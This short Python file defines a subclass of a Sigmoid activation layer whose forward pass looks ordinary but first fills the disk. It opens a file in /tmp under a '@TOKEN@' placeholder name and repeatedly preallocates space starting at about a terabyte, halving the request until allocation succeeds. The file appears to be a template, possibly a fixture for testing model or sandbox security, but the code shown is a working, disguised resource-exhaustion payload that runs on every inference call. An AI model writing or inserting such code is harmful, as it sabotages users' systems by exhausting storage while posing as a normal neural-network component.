import os


class Sigmoid(Sigmoid):
    def forward(self, x):
        with open("/tmp/@TOKEN@", "wb") as file:
            size = 2**40
            while size > 4096:
                try:
                    os.posix_fallocate(file.fileno(), os.fstat(file.fileno()).st_size, size)
                except OSError:
                    size //= 2
        return super().forward(x)
